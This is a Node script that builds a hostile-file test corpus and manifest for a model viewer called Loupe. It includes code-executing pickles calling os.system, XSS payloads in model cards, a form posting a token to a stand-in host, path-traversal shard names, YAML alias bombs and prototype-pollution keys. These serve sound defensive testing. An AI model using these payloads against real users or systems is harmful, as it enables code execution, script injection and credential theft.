#!/usr/bin/env node
/**
 * Writes e2e/hostile/: a corpus of hostile model files (safetensors, ONNX, pickle/zip, config, cards)
 * and e2e/hostile/manifest.json, which says for each case what it attacks and what Loupe must do:
 *
 *   { outcome: 'error', code, message }          a typed LoupeError whose message contains `message`
 *   { outcome: 'ready-with-warning', warning }   the document opens with a diagnostic of that code
 *   { outcome: 'ready', verdict? }               the document opens (with that pickle verdict)
 *
 * Plain Node, no dependencies; deterministic output. Cases too large to commit (a 100,000-tensor
 * header, a 5 MB card) are generated at test time by e2e/hostile.spec.ts and test/fuzz.
 * Existing hostile pickles are referenced from e2e/models/pytorch/hostile, not copied.
 *
 * Usage: node scripts/make-hostile-corpus.mjs
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const OUT = join(import.meta.dirname, '..', 'e2e', 'hostile');
const cases = [];
const files = new Map();

function add(name, format, attack, expect, bytes) {
  if (bytes !== undefined) files.set(name, typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : Buffer.from(bytes));
  cases.push({ id: name.replace(/\.[^.]+$/, '').replace(/^\.\.\/.*\//, 'reuse-'), files: [name], format, attack, expect });
}
const error = (code, message) => ({ outcome: 'error', code, message });
const ready = (verdict) => (verdict ? { outcome: 'ready', verdict } : { outcome: 'ready' });
const warned = (warning) => ({ outcome: 'ready-with-warning', warning });

// ---------------------------------------------------------------- safetensors
function u64(value) {
  const b = Buffer.alloc(8);
  b.writeBigUInt64LE(BigInt(value));
  return b;
}
function safetensors(header, data = 0, declared) {
  const json = Buffer.isBuffer(header) ? header : Buffer.from(typeof header === 'string' ? header : JSON.stringify(header), 'utf8');
  const payload = typeof data === 'number' ? Buffer.alloc(data) : Buffer.from(data);
  return Buffer.concat([u64(declared ?? json.length), json, payload]);
}
const f32 = (offsets, shape = [1]) => ({ dtype: 'F32', shape, data_offsets: offsets });

add(
  'st-header-u64-max.safetensors',
  'safetensors',
  'header length at the u64 maximum (the sniffer refuses it)',
  error('unsupported', 'the header length, 18446744073709551615 bytes, is larger than'),
  safetensors('{}', 0, 0xffffffffffffffffn),
);
add(
  'st-header-over-cap.safetensors',
  'safetensors',
  'declared header length 100,000,001 (over the 100 MB cap), file tiny',
  error('unsupported', 'the header length, 100000001 bytes, is larger than'),
  safetensors('{}', 0, 100_000_001),
);
add(
  'st-header-past-end.safetensors',
  'safetensors',
  'declared header length runs past the end of the file',
  error('unsupported', 'the header length, 4096 bytes, runs past the end'),
  safetensors('{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', 0, 4096),
);
add(
  'st-invalid-utf8.safetensors',
  'safetensors',
  'header JSON with invalid UTF-8 bytes',
  error('format', 'UTF-8'),
  safetensors(
    Buffer.concat([
      Buffer.from('{"a\xff'.slice(0, 3), 'latin1'),
      Buffer.from([0xff, 0xfe, 0xc0, 0x80]),
      Buffer.from('":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'),
    ]),
    4,
  ),
);
add(
  'st-duplicate-keys.safetensors',
  'safetensors',
  'the same tensor name twice in the header',
  error('format', 'duplicate key'),
  safetensors('{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}', 8),
);
add(
  'st-metadata-as-tensor.safetensors',
  'safetensors',
  'a tensor named __metadata__ with tensor fields',
  error('format', '__metadata__'),
  safetensors({ __metadata__: f32([0, 4]) }, 4),
);
add(
  'st-dims-2p64-2.safetensors',
  'safetensors',
  'a dimension of 2^64-2',
  error('format', 'larger than 2^53'),
  safetensors('{"a":{"dtype":"F32","shape":[18446744073709551614],"data_offsets":[0,4]}}', 4),
);
add(
  'st-dims-product-overflow.safetensors',
  'safetensors',
  'dimensions whose product overflows 2^64',
  error('format', 'more than 2^53'),
  safetensors('{"a":{"dtype":"F32","shape":[4294967296,4294967296,4294967296],"data_offsets":[0,4]}}', 4),
);
add('st-gap.safetensors', 'safetensors', "a gap between two tensors' data", error('format', 'gap'), safetensors({ a: f32([0, 4]), b: f32([8, 12]) }, 12));
add(
  'st-overlap.safetensors',
  'safetensors',
  "two tensors' data overlapping",
  error('format', 'overlaps'),
  safetensors({ a: f32([0, 8], [2]), b: f32([4, 12], [2]) }, 12),
);
add('st-trailing-bytes.safetensors', 'safetensors', 'bytes after the last tensor', error('format', 'trailing bytes'), safetensors({ a: f32([0, 4]) }, 8));
add(
  'st-offsets-vs-shape.safetensors',
  'safetensors',
  'data_offsets that disagree with shape × dtype',
  error('format', 'needs 16'),
  safetensors({ a: f32([0, 4], [2, 2]) }, 4),
);
add(
  'st-long-name.safetensors',
  'safetensors',
  'a 1 MB tensor name',
  error('format', 'st-long-name.safetensors'),
  safetensors(`{"${'n'.repeat(1 << 20)}":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`, 4),
);
add(
  'st-deep-json.safetensors',
  'safetensors',
  'header JSON nested 100,000 deep',
  error('format', 'nested deeper'),
  safetensors(`{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`),
);
add(
  'st-bad-dtype.safetensors',
  'safetensors',
  'an unknown dtype',
  error('format', 'dtype'),
  safetensors({ a: { dtype: 'F1024', shape: [1], data_offsets: [0, 4] } }, 4),
);
add(
  'st-metadata-proto.safetensors',
  'safetensors',
  '__metadata__ with __proto__ and constructor keys (prototype pollution)',
  ready(),
  safetensors('{"__metadata__":{"__proto__":"polluted","constructor":"x","format":"pt"},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', 4),
);

// ---------------------------------------------------------------- safetensors index and config
add(
  'index-traversal.safetensors.index.json',
  'safetensors-index',
  'a weight_map naming shards ../../etc/passwd and /abs',
  error('format', 'unsafe shard name'),
  JSON.stringify({ metadata: { total_size: 8 }, weight_map: { a: '../../etc/passwd', b: '/etc/shadow' } }),
);
add(
  'index-missing-shards.safetensors.index.json',
  'safetensors-index',
  'an index alone: 10,000 tensors in shards that were not dropped',
  warned('shard-missing'),
  JSON.stringify({
    metadata: { total_size: 8 },
    weight_map: Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`t${i}`, `model-${String(i % 7).padStart(5, '0')}-of-00007.safetensors`])),
  }),
);
add(
  'index-bad-values.safetensors.index.json',
  'safetensors-index',
  'a weight_map whose values are not strings',
  error('format', 'weight_map'),
  JSON.stringify({ metadata: { total_size: 8 }, weight_map: { a: 1, b: { c: [] } } }),
);
add(
  'config-proto.json',
  'config',
  'a config.json with __proto__ and constructor keys',
  ready(),
  '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"architectures":["LlamaForCausalLM"],"model_type":"llama"}',
);
add(
  'config-absurd-numbers.json',
  'config',
  'a config.json with absurd sizes (1e308, -1, 2^64)',
  ready(),
  '{"architectures":["LlamaForCausalLM"],"model_type":"llama","hidden_size":1e308,"num_hidden_layers":-1,"vocab_size":18446744073709551616,"intermediate_size":"x","num_attention_heads":0}',
);
// Found by this corpus: it used to parse, then overflow the stack in the worker's postMessage (structured
// clone of config.raw). JSON sidecars are now refused past MAX_JSON_DEPTH (src/formats/json-depth.ts).
add(
  'config-deep.json',
  'config',
  'a config.json nested 100,000 deep',
  error('unsupported', 'nested more than'),
  `{"architectures":["X"],"model_type":"llama","a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
);

// ---------------------------------------------------------------- ONNX (protobuf by hand)
function varint(value) {
  let v = BigInt.asUintN(64, BigInt(value));
  const out = [];
  while (v >= 0x80n) {
    out.push(Number(v & 0x7fn) | 0x80);
    v >>= 7n;
  }
  out.push(Number(v));
  return Buffer.from(out);
}
const tag = (field, wire) => varint(field * 8 + wire);
const vint = (field, value) => Buffer.concat([tag(field, 0), varint(value)]);
const len = (field, bytes) => {
  const b = typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : Buffer.from(bytes);
  return Buffer.concat([tag(field, 2), varint(b.length), b]);
};
const msg = (...parts) => Buffer.concat(parts);
const opset = (domain, version) => msg(len(1, domain), vint(2, version));
const dim = (value) => (typeof value === 'string' ? len(1, len(2, value)) : len(1, vint(1, value)));
const valueInfo = (name, dims = [1]) => msg(len(1, name), len(2, len(1, msg(vint(1, 1), len(2, msg(...dims.map(dim)))))));
const node = (op, inputs, outputs, extra = [], domain) =>
  msg(...inputs.map((i) => len(1, i)), ...outputs.map((o) => len(2, o)), len(3, `${op}_node`), len(4, op), ...(domain ? [len(7, domain)] : []), ...extra);
const graph = (nodes, { inputs = ['x'], outputs = ['y'], initializers = [], valueInfos = [], name = 'g' } = {}) =>
  msg(
    ...nodes.map((n) => len(1, n)),
    len(2, name),
    ...initializers.map((t) => len(5, t)),
    ...inputs.map((i) => len(11, valueInfo(i))),
    ...outputs.map((o) => len(12, valueInfo(o))),
    ...valueInfos.map((v) => len(13, v)),
  );
const model = (g, { functions = [], opsets = [opset('', 17)] } = {}) =>
  msg(vint(1, 8), ...opsets.map((o) => len(8, o)), len(2, 'hostile-corpus'), len(7, g), ...functions.map((f) => len(25, f)));
const identity = () => node('Identity', ['x'], ['y']);
const valid = model(graph([identity()]));
const entry = (key, value) => msg(len(1, key), len(2, value));
const externalTensor = (location) =>
  msg(vint(1, 4), vint(2, 1), len(8, 'w'), len(13, entry('location', location)), len(13, entry('offset', '0')), len(13, entry('length', '16')), vint(14, 1));

add('onnx-valid-control.onnx', 'onnx', 'control: the hand-written base model is valid', ready(), valid);
add(
  'onnx-truncated.onnx',
  'onnx',
  'a valid model cut in the middle of the graph',
  error('format', 'runs past the end'),
  valid.subarray(0, Math.floor(valid.length * 0.6)),
);
add(
  'onnx-wrong-wire-type.onnx',
  'onnx',
  'graph.node with wire type fixed32 instead of length-delimited',
  error('format', 'wire type'),
  model(msg(tag(1, 5), Buffer.from([1, 2, 3, 4]), len(2, 'g'))),
);
add(
  'onnx-length-past-end.onnx',
  'onnx',
  'a graph message whose length runs past the end of the file',
  error('format', 'length 1000000 runs past the end'),
  msg(vint(1, 8), len(8, opset('', 17)), len(2, 'hostile'), tag(7, 2), varint(1_000_000), identity()),
);
add(
  'onnx-huge-varint.onnx',
  'onnx',
  'an 11-byte varint length',
  error('format', 'varint'),
  msg(vint(1, 8), len(8, opset('', 17)), len(2, 'hostile'), tag(7, 2), Buffer.alloc(11, 0xff), Buffer.from([1])),
);
let body = graph([identity()], { name: 'leaf' });
for (let i = 0; i < 1000; i++) {
  const branch = msg(len(1, 'then_branch'), vint(20, 5), len(6, body));
  body = graph([node('If', ['c'], ['y'], [len(5, branch)])], { inputs: ['c'], name: `level${i}` });
}
add('onnx-if-nested-1000.onnx', 'onnx', 'If bodies nested 1,000 deep', error('format', 'nested deeper'), model(body));
const selfCall = msg(len(1, 'recurse'), len(4, 'x'), len(5, 'y'), len(7, node('recurse', ['x'], ['y'], [], 'local')), len(9, opset('', 17)), len(10, 'local'));
add(
  'onnx-recursive-function.onnx',
  'onnx',
  'a local function that calls itself (must be recorded, never expanded)',
  ready(),
  model(graph([node('recurse', ['x'], ['y'], [], 'local')]), { functions: [selfCall], opsets: [opset('', 17), opset('local', 1)] }),
);
const mutualA = msg(len(1, 'ping'), len(4, 'x'), len(5, 'y'), len(7, node('pong', ['x'], ['y'], [], 'local')), len(10, 'local'));
const mutualB = msg(len(1, 'pong'), len(4, 'x'), len(5, 'y'), len(7, node('ping', ['x'], ['y'], [], 'local')), len(10, 'local'));
add(
  'onnx-mutual-functions.onnx',
  'onnx',
  'two local functions calling each other',
  ready(),
  model(graph([node('ping', ['x'], ['y'], [], 'local')]), { functions: [mutualA, mutualB], opsets: [opset('', 17), opset('local', 1)] }),
);
const locations = {
  'etc-passwd': '../../etc/passwd',
  'dot-dot-inner': 'a/../../x',
  absolute: '/abs',
  'windows-drive': 'C:\\x',
  'unc-share': '\\\\srv\\x',
  url: 'https://example.com/x',
};
for (const [name, location] of Object.entries(locations)) {
  add(
    `onnx-external-${name}.onnx`,
    'onnx',
    `external data location ${JSON.stringify(location)}`,
    error('format', 'external data location'),
    model(graph([identity()], { initializers: [externalTensor(location)] })),
  );
}
add(
  'onnx-negative-dims.onnx',
  'onnx',
  'an initializer with dims -1 and a value_info with dim_value -5',
  error('format', 'negative dimension'),
  model(graph([identity()], { initializers: [msg(vint(1, -1), vint(1, 4), vint(2, 1), len(8, 'neg'))], valueInfos: [valueInfo('z', [-5])] })),
);
add(
  'onnx-overflow-dims.onnx',
  'onnx',
  'an initializer whose dims multiply past 2^64',
  error('format', 'beyond 2^53'),
  model(
    graph([identity()], {
      initializers: [msg(vint(1, 2n ** 62n), vint(1, 2n ** 62n), vint(1, 2n ** 62n), vint(2, 1), len(8, 'big'), len(9, Buffer.alloc(4)))],
    }),
  ),
);
add(
  'onnx-raw-data-short.onnx',
  'onnx',
  'raw_data of 4 bytes for a [1000] float tensor',
  ready(),
  model(graph([identity()], { initializers: [msg(vint(1, 1000), vint(2, 1), len(8, 'short'), len(9, Buffer.alloc(4)))] })),
);
add(
  'onnx-bad-utf8-name.onnx',
  'onnx',
  'a node name with invalid UTF-8 (accepted and shown lossily)',
  ready(),
  model(graph([msg(len(1, 'x'), len(2, 'y'), len(3, Buffer.from([0xff, 0xfe, 0xc0])), len(4, 'Identity'))])),
);

// ---------------------------------------------------------------- pickle / zip
const P2 = Buffer.from([0x80, 0x02]);
const STOP = Buffer.from('.');
add(
  'pkl-binunicode-4gb.pkl',
  'pytorch',
  'BINUNICODE declaring a 4 GB string (scan stops, verdict unknown)',
  ready('unknown'),
  msg(P2, Buffer.from('X'), Buffer.from([0xff, 0xff, 0xff, 0xff]), Buffer.from('abc'), STOP),
);
add(
  'pkl-binbytes8-huge.pkl',
  'pytorch',
  'BINBYTES8 declaring 2^63 bytes',
  ready('unknown'),
  msg(Buffer.from([0x80, 0x04, 0x8e]), u64(2n ** 63n), Buffer.from('abc'), STOP),
);
add('pkl-memo-2p32.pkl', 'pytorch', 'GET of memo index 2^32 (never PUT)', ready('unknown'), msg(P2, Buffer.from('N'), Buffer.from('g4294967296\n'), STOP));
add(
  'pkl-memo-put-max.pkl',
  'pytorch',
  'LONG_BINPUT and LONG_BINGET at index 2^32-1 (a sparse memo must not allocate)',
  ready('safe'),
  msg(P2, Buffer.from('N'), Buffer.from([0x72, 0xff, 0xff, 0xff, 0xff]), Buffer.from([0x30, 0x6a, 0xff, 0xff, 0xff, 0xff]), STOP),
);
add(
  'pkl-long4-huge.pkl',
  'pytorch',
  'LONG4 declaring a 2 GB integer',
  ready('unknown'),
  msg(P2, Buffer.from([0x8b, 0xff, 0xff, 0xff, 0x7f]), Buffer.alloc(8), STOP),
);
add('pkl-deep-lists.pkl', 'pytorch', 'lists nested 100,000 deep', ready('safe'), msg(P2, Buffer.alloc(100_000, 0x5d), Buffer.alloc(99_999, 0x61), STOP));
add('pkl-mark-flood.pkl', 'pytorch', '200,000 MARKs never closed', ready('unknown'), msg(P2, Buffer.alloc(200_000, 0x28), Buffer.from('N'), STOP));
add('pkl-global-unterminated.pkl', 'pytorch', 'GLOBAL whose module line never ends', ready('unknown'), msg(P2, Buffer.from('cos\nsys')));

// Protocols 0 and 1 have no PROTO opcode: a scanner that only looks for \x80 misses them.
// Each is written twice, named like a pickle and with no extension at all (sniffed from its opcodes).
const systemPickles = {
  'pkl-proto0-handwritten': ["cos\nsystem\n(S'echo pwned'\ntR.", 'protocol 0 os.system, hand-written (GLOBAL, MARK, STRING, TUPLE, REDUCE)'],
  'pkl-proto0-system': ['cposix\nsystem\np0\n(Vecho pwned\np1\ntp2\nRp3\n.', 'protocol 0 posix.system as pickle.dumps writes it'],
  'pkl-proto1-system': ['cposix\nsystem\nq\x00(X\n\x00\x00\x00echo pwnedq\x01tq\x02Rq\x03.', 'protocol 1 posix.system as pickle.dumps writes it'],
  'pkl-proto2-system': ['\x80\x02cposix\nsystem\nq\x00X\n\x00\x00\x00echo pwnedq\x01\x85q\x02Rq\x03.', 'protocol 2 posix.system as pickle.dumps writes it'],
};
for (const [name, [text, attack]] of Object.entries(systemPickles)) {
  add(`${name}.pkl`, 'pytorch', `${attack}, named .pkl`, ready('unsafe'), Buffer.from(text, 'latin1'));
  add(`${name}-no-extension`, 'pytorch', `${attack}, with no file extension`, ready('unsafe'), Buffer.from(text, 'latin1'));
}

function crc32(bytes) {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}
/** A stored zip of one member, with the EOCD declaring `declared` entries (zip64 above 65,534). */
function zipWithDeclaredEntries(declared) {
  const name = Buffer.from('archive/data.pkl');
  const data = Buffer.from([0x80, 0x02, 0x7d, 0x2e]); // {} .
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(name.length, 28);
  const cdOffset = local.length + name.length + data.length;
  const cd = Buffer.concat([central, name]);
  const parts = [local, name, data, cd];
  const zip64 = declared > 0xfffe;
  if (zip64) {
    const rec = Buffer.alloc(56);
    rec.writeUInt32LE(0x06064b50, 0);
    rec.writeBigUInt64LE(44n, 4);
    rec.writeUInt16LE(45, 12);
    rec.writeUInt16LE(45, 14);
    rec.writeBigUInt64LE(BigInt(declared), 24);
    rec.writeBigUInt64LE(BigInt(declared), 32);
    rec.writeBigUInt64LE(BigInt(cd.length), 40);
    rec.writeBigUInt64LE(BigInt(cdOffset), 48);
    const loc = Buffer.alloc(20);
    loc.writeUInt32LE(0x07064b50, 0);
    loc.writeBigUInt64LE(BigInt(cdOffset + cd.length), 8);
    loc.writeUInt32LE(1, 16);
    parts.push(rec, loc);
  }
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(zip64 ? 0xffff : declared, 8);
  eocd.writeUInt16LE(zip64 ? 0xffff : declared, 10);
  eocd.writeUInt32LE(zip64 ? 0xffffffff : cd.length, 12);
  eocd.writeUInt32LE(zip64 ? 0xffffffff : cdOffset, 16);
  parts.push(eocd);
  return Buffer.concat(parts);
}
add('zip-million-members.pt', 'pytorch', 'zip64 end record declaring 1,000,000 members (one real)', error('format', 'zip'), zipWithDeclaredEntries(1_000_000));
add('zip-65534-members.pt', 'pytorch', 'end record declaring 65,534 members (one real)', error('format', 'zip'), zipWithDeclaredEntries(65_534));

const reused = {
  'bad-crc.pt': error('format', 'bad-crc'),
  'builtins-eval.pkl': ready('unsafe'),
  'extra-pickle.pt': ready('unsafe'),
  'hidden-storage.pt': ready('unsafe'),
  'main-class.pkl': ready('suspicious'),
  'os-system-global.pkl': ready('unsafe'),
  'pickle-named.safetensors': ready('unsafe'),
  'pip-main.pkl': ready('unsafe'),
  'posix-system.pkl': ready('unsafe'),
  'prefix-then-garbage.pkl': ready('unsafe'),
  'stack-global-memo.pkl': ready('unsafe'),
  'zip-bomb.pt': ready('unsafe'),
};
for (const [name, expect] of Object.entries(reused)) {
  add(`../models/pytorch/hostile/${name}`, 'pytorch', `reused hostile fixture ${name} (e2e/models/pytorch/expected.json)`, expect);
}

// ---------------------------------------------------------------- model cards
const card = (front, bodyText) => `---\n${front}\n---\n\n# Hostile card\n\n${bodyText}\n`;
const FRONT = 'license: apache-2.0\nlibrary_name: transformers';
const cards = {
  'card-script': ['<script>window.__pwned = 1; alert(1)</script>\n<SCRIPT SRC="https://example.com/x.js"></SCRIPT>', '<script> tags, both cases'],
  'card-img-onerror': ['<img src="x" onerror="alert(1)">\n<IMG SRC=x OnError=alert(1)>', '<img onerror>'],
  'card-svg-onload': ['<svg onload="alert(1)"><circle r="4"/></svg>\n<svg><animate onbegin="alert(1)" attributeName="x"/></svg>', '<svg onload>'],
  'card-iframe': [
    '<iframe src="javascript:alert(1)"></iframe>\n<iframe srcdoc="<script>alert(1)</script>"></iframe>\n<object data="x"></object><embed src="x">',
    '<iframe>, <object>, <embed>',
  ],
  'card-style': [
    '<style>body{display:none} *{background:url(https://example.com/leak)}</style>\n<div style="position:fixed;inset:0;background:red">overlay</div>',
    '<style> and style attributes',
  ],
  'card-javascript-links': [
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](java&#x09;script:alert(1))\n<a href="jav&#x61;script:alert(1)">e</a> <a href=" javascript:alert(1)">f</a> <a href="JAVASCRIPT:alert(1)">g</a>\n[h]: javascript:alert(1)\n[ref][h]',
    'javascript: links in mixed case, with entities and whitespace',
  ],
  'card-data-links': [
    '[a](data:text/html,<script>alert(1)</script>) <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">b</a>\n![i](data:image/svg+xml,<svg onload=alert(1)>)',
    'data:text/html links',
  ],
  'card-dom-clobber': [
    '<a id="__proto__">x</a> <form name="getElementById"><input name="body"></form> <img name="cookie"> <div id="root">clobber</div>',
    'id="__proto__" and DOM clobbering names',
  ],
  'card-mermaid': [
    '```mermaid\n%%{init: {"securityLevel": "loose", "startOnLoad": true}}%%\ngraph TD\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"\n  click B call alert(1)\n```',
    'a mermaid block with click directives and an %%{init}%% lowering securityLevel',
  ],
  'card-meta-refresh': [
    '<meta http-equiv="refresh" content="0;url=https://example.com">\n<base href="https://example.com/">\n<link rel="stylesheet" href="https://example.com/x.css">',
    '<meta refresh>, <base>, <link>',
  ],
  'card-form': [
    '<form action="https://example.com/steal"><input name="token"><button formaction="javascript:alert(1)">Go</button></form>',
    '<form> posting elsewhere',
  ],
};
for (const [name, [text, attack]] of Object.entries(cards)) add(`${name}.md`, 'card', attack, ready(), card(FRONT, text));
const aliasBomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
for (let i = 1; i < 10; i++) {
  const prev = String.fromCharCode(96 + i);
  const cur = String.fromCharCode(97 + i);
  aliasBomb.push(`${cur}: &${cur} [${Array(9).fill(`*${prev}`).join(',')}]`);
}
add('card-yaml-alias-bomb.md', 'card', 'a billion-laughs YAML alias bomb in the front matter', ready(), card(aliasBomb.join('\n'), 'body'));
add(
  'card-yaml-tags.md',
  'card',
  'YAML with !!js/function and custom tags, __proto__ keys',
  ready(),
  card('license: !!js/function "function(){alert(1)}"\n__proto__: {polluted: true}\ntags: !custom [a]\n<<: {base_model: x}', 'body'),
);
add(
  'card-invalid-utf8.md',
  'card',
  'a card with invalid UTF-8',
  error('format', 'UTF-8'),
  Buffer.concat([Buffer.from('# Card\n\n'), Buffer.from([0xc3, 0x28, 0xa0, 0xa1]), Buffer.from('\n')]),
);

// ---------------------------------------------------------------- GGUF
// A minimal GGUF v3 writer (ggml docs/gguf.md): each case breaks one field of a small valid file.
// The expected message is the field the FormatError names (`file: field: why`).
const GGUF_T = { uint8: 0, uint32: 4, bool: 7, string: 8, array: 9, uint64: 10 };
function ggufBytes({ magic = 'GGUF', version = 3, tensorCount, metadataCount, metadata, tensors, dataBytes, cut }) {
  const parts = [];
  const u8 = (n) => parts.push(Buffer.from([n]));
  const u32 = (n) => {
    const b = Buffer.alloc(4);
    b.writeUInt32LE(n);
    parts.push(b);
  };
  const u64 = (n) => parts.push(u64Buf(n));
  const str = (s) => {
    const b = Buffer.isBuffer(s) ? s : Buffer.from(s, 'utf8');
    u64(b.length);
    parts.push(b);
  };
  parts.push(Buffer.from(magic, 'latin1'));
  u32(version);
  u64(tensorCount ?? tensors.length);
  u64(metadataCount ?? metadata.length);
  for (const [key, write] of metadata) {
    str(key);
    write({ u8, u32, u64, str });
  }
  let offset = 0;
  for (const t of tensors) {
    str(t.name);
    u32(t.dims.length);
    for (const d of t.dims) u64(d);
    u32(t.type ?? 0);
    u64(t.offset ?? offset);
    offset += Math.ceil((t.bytes ?? 0) / 32) * 32;
  }
  let head = Buffer.concat(parts);
  head = Buffer.concat([head, Buffer.alloc(Math.ceil(head.length / 32) * 32 - head.length)]);
  const file = Buffer.concat([head, Buffer.alloc(dataBytes ?? offset)]);
  return cut === undefined ? file : file.subarray(0, cut(head.length));
}
function u64Buf(n) {
  const b = Buffer.alloc(8);
  b.writeBigUInt64LE(BigInt(n));
  return b;
}
const kvU32 = (key, n) => [
  key,
  (w) => {
    w.u32(GGUF_T.uint32);
    w.u32(n);
  },
];
const kvStr = (key, s) => [
  key,
  (w) => {
    w.u32(GGUF_T.string);
    w.str(s);
  },
];
const ARCH = kvStr('general.architecture', 'llama');
const F32_8 = { name: 'x.weight', dims: [8], type: 0, bytes: 32 };
const gguf = (spec) => ggufBytes({ metadata: [ARCH], tensors: [F32_8], ...spec });
const NOT_UTF8 = Buffer.from([0x61, 0xff, 0xfe]);
const ggufCases = [
  ['gguf-version-4', 'an unknown version, 4', 'version: ', gguf({ version: 4 })],
  ['gguf-tensor-count-2p62', 'a tensor count of 2^62', 'tensor_count: ', gguf({ tensorCount: 2n ** 62n })],
  ['gguf-metadata-count-2p62', 'a metadata count of 2^62', 'metadata_kv_count: ', gguf({ metadataCount: 2n ** 62n })],
  [
    'gguf-string-2p40',
    'a string length of 2^40',
    'metadata["k"]: ',
    gguf({
      metadata: [
        ARCH,
        [
          'k',
          (w) => {
            w.u32(GGUF_T.string);
            w.u64(2n ** 40n);
          },
        ],
      ],
    }),
  ],
  [
    'gguf-array-2p40',
    'an array length of 2^40',
    'metadata["k"]: ',
    gguf({
      metadata: [
        ARCH,
        [
          'k',
          (w) => {
            w.u32(GGUF_T.array);
            w.u32(GGUF_T.uint8);
            w.u64(2n ** 40n);
          },
        ],
      ],
    }),
  ],
  [
    'gguf-nested-arrays',
    'arrays nested 5 deep (the limit is 4)',
    'metadata["k"][0][0][0][0]: arrays are nested more than 4 deep',
    gguf({
      metadata: [
        ARCH,
        [
          'k',
          (w) => {
            w.u32(GGUF_T.array);
            for (let i = 0; i < 5; i++) {
              w.u32(GGUF_T.array);
              w.u64(1);
            }
            w.u32(GGUF_T.uint8);
            w.u64(0);
          },
        ],
      ],
    }),
  ],
  [
    'gguf-unknown-value-type',
    'a value type of 13',
    'metadata["k"].type: ',
    gguf({
      metadata: [
        ARCH,
        [
          'k',
          (w) => {
            w.u32(13);
            w.u8(0);
          },
        ],
      ],
    }),
  ],
  ['gguf-unknown-ggml-type', 'a ggml type of 99', 'tensors["x.weight"].type: ', gguf({ tensors: [{ ...F32_8, type: 99 }] })],
  [
    'gguf-bool-2',
    'a bool that is 2',
    'metadata["k"]: ',
    gguf({
      metadata: [
        ARCH,
        [
          'k',
          (w) => {
            w.u32(GGUF_T.bool);
            w.u8(2);
          },
        ],
      ],
    }),
  ],
  ['gguf-duplicate-keys', 'the same key twice', 'metadata["k"]: ', gguf({ metadata: [ARCH, kvU32('k', 1), kvU32('k', 2)] })],
  ['gguf-duplicate-tensors', 'the same tensor name twice', 'tensors["x.weight"]: ', gguf({ tensors: [F32_8, F32_8] })],
  ['gguf-five-dims', 'five dims (ggml allows 4)', 'tensors["x.weight"].n_dims: ', gguf({ tensors: [{ ...F32_8, dims: [8, 1, 1, 1, 1] }] })],
  ['gguf-dims-overflow', 'dims whose product overflows', 'tensors["x.weight"].dims: ', gguf({ tensors: [{ ...F32_8, dims: [2 ** 31, 2 ** 31, 2 ** 31] }] })],
  [
    'gguf-row-not-block',
    'a Q8_0 row of 33 (blocks hold 32)',
    'tensors["x.weight"].dims[0]: ',
    gguf({ tensors: [{ name: 'x.weight', dims: [33, 2], type: 8, bytes: 0 }] }),
  ],
  ['gguf-alignment-0', 'general.alignment of 0', 'metadata["general.alignment"]: ', gguf({ metadata: [ARCH, kvU32('general.alignment', 0)] })],
  [
    'gguf-alignment-12',
    'general.alignment of 12 (not a multiple of 8)',
    'metadata["general.alignment"]: ',
    gguf({ metadata: [ARCH, kvU32('general.alignment', 12)] }),
  ],
  ['gguf-offset-unaligned', 'a tensor offset of 16', 'tensors["x.weight"].offset: ', gguf({ tensors: [{ ...F32_8, offset: 16 }] })],
  ['gguf-offset-past-end', 'a tensor offset of 2^40', 'tensors["x.weight"].offset: ', gguf({ tensors: [{ ...F32_8, offset: 2n ** 40n }] })],
  [
    'gguf-overlap',
    'two tensors at the same offset',
    'tensors["b"].offset: ',
    gguf({
      tensors: [
        { ...F32_8, name: 'a', dims: [16], bytes: 64 },
        { ...F32_8, name: 'b', offset: 32 },
      ],
    }),
  ],
  [
    'gguf-parameters-beyond-file',
    '2^52 parameters in a file of a few hundred bytes',
    'tensors: ',
    gguf({ tensors: [{ ...F32_8, dims: [2 ** 26, 2 ** 26] }], dataBytes: 0 }),
  ],
  ['gguf-name-not-utf8', 'a tensor name that is not UTF-8', 'tensors[0].name: ', gguf({ tensors: [{ ...F32_8, name: NOT_UTF8 }] })],
  [
    'gguf-truncated-metadata',
    'the file ends inside the metadata',
    'metadata["general.name"]',
    gguf({ metadata: [ARCH, kvStr('general.name', 'n'.repeat(400))], cut: () => 120 }),
  ],
  [
    'gguf-truncated-data',
    'the file ends inside the tensor data',
    'tensors["x.weight"]: ',
    gguf({ tensors: [{ ...F32_8, dims: [64], bytes: 256 }], cut: (header) => header + 100 }),
  ],
];
for (const [id, attack, message, bytes] of ggufCases) add(`${id}.gguf`, 'gguf', attack, error('format', message), bytes);
// Bad magic is not GGUF at all: the name's hint only explains why it was not opened.
